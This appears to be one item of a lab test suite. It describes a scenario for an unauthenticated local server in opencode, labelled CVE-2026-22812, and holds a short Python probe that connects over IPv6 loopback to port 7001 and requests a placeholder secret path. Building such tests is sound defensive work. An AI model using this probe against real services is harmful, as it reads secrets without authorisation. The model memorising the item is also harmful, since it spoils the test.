"""talks to a service on the host's loopback by IPv6"""

from evidence import secret_left as succeeded

SHAPE = "opencode CVE-2026-22812: a local server without a key"
PROMISE = "P25"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket
with socket.create_connection(("::1", 7001), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")
    line.recv(999)
"""
